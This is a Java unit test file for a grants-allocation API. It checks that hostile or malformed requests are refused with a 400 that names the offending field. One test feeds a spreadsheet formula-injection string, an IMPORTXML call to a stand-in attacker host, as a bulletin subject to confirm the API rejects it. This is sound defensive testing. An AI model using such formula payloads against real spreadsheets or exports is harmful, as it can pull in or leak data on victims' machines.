package grants.functions.allocate;

import com.amazonaws.services.lambda.runtime.events.APIGatewayV2HTTPEvent;
import com.amazonaws.services.lambda.runtime.events.APIGatewayV2HTTPResponse;
import grants.core.errors.Problem;
import grants.documents.DocumentSchemas;
import grants.documents.Json;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.util.Map;

import static grants.functions.allocate.ApiOnTheEmulators.body;
import static grants.functions.allocate.ApiOnTheEmulators.refusedField;
import static org.assertj.core.api.Assertions.assertThat;

/** Requests an attacker or a clumsy client would send: each a 400 naming what is wrong, none a 500. */
class HostileRequestsTest {

    private ApiOnTheEmulators api;

    @BeforeEach
    void api() {
        api = new ApiOnTheEmulators(getClass());
    }

    @Test
    void anAbsurdLinkExpiryIsRefusedNamingTheParameter() {
        APIGatewayV2HTTPEvent exports = Events.load("get-allocation-run-exports.json");
        exports.setQueryStringParameters(Map.of("expiresInSeconds", "9223372036854775807"));

        APIGatewayV2HTTPResponse response = api.call(exports);

        assertThat(response.getStatusCode()).isEqualTo(400);
        assertThat(refusedField(response)).isEqualTo("expiresInSeconds");
    }

    @Test
    void aBodyMarkedBase64ThatIsNotIsRefused() {
        APIGatewayV2HTTPEvent put = Events.load("put-programme.json");
        put.setBody("%%% not base64 %%%");
        put.setIsBase64Encoded(true);

        APIGatewayV2HTTPResponse response = api.call(put);

        assertThat(response.getStatusCode()).isEqualTo(400);
        assertThat(refusedField(response)).isEqualTo("body");
    }

    @Test
    void anUnknownFieldInARequestBodyIsRefusedNamingIt() {
        APIGatewayV2HTTPResponse response = api.call(AllocationRoutes.POST_RUN, Map.of("programmeId", "l2d-2007-08"),
                "{\"mode\":\"DRY_RUN\",\"dryRun\":true}");

        assertThat(response.getStatusCode()).isEqualTo(400);
        assertThat(refusedField(response)).isEqualTo("dryRun");
    }

    @Test
    void aBulletinWithAFormulaSubjectIsRefusedAndNothingIsQueued() {
        api.call(Events.load("put-programme.json"));
        APIGatewayV2HTTPEvent bulletin = Events.load("post-bulletin.json");
        var document = (com.fasterxml.jackson.databind.node.ObjectNode) Json.parse(bulletin.getBody());
        bulletin.setBody(Json.write(document.put("subject", "=IMPORTXML(\"http://evil.example\")")));

        APIGatewayV2HTTPResponse response = api.call(bulletin);

        assertThat(response.getStatusCode()).isEqualTo(400);
        assertThat(refusedField(response)).isEqualTo("subject");
    }

    @Test
    void theProgrammeSchemaIsServedAndTheRealProgrammeMeetsIt() {
        APIGatewayV2HTTPResponse schema = api.call(Events.load("get-schema.json"));

        assertThat(schema.getStatusCode()).isEqualTo(200);
        assertThat(schema.getHeaders()).containsEntry("content-type", "application/schema+json");
        assertThat(body(schema).get("title").asText()).isEqualTo("Programme document");
        assertThat(DocumentSchemas.problems("programme", Json.parse(Events.load("put-programme.json").getBody())))
                .extracting(Problem::field).isEmpty();
        assertThat(api.call(AllocationRoutes.GET_SCHEMA, Map.of("schemaName", "nope"), null).getStatusCode())
                .isEqualTo(404);
    }

    @Test
    void theSchemaCatchesWhatItDescribes() {
        var document = (com.fasterxml.jackson.databind.node.ObjectNode) Json.parse(
                Events.load("put-programme.json").getBody());
        document.put("redistribution", "RANDOM").put("grantBuget", "1.00");

        assertThat(DocumentSchemas.problems("programme", document)).extracting(Problem::field)
                .contains("redistribution", "grantBuget");
    }
}
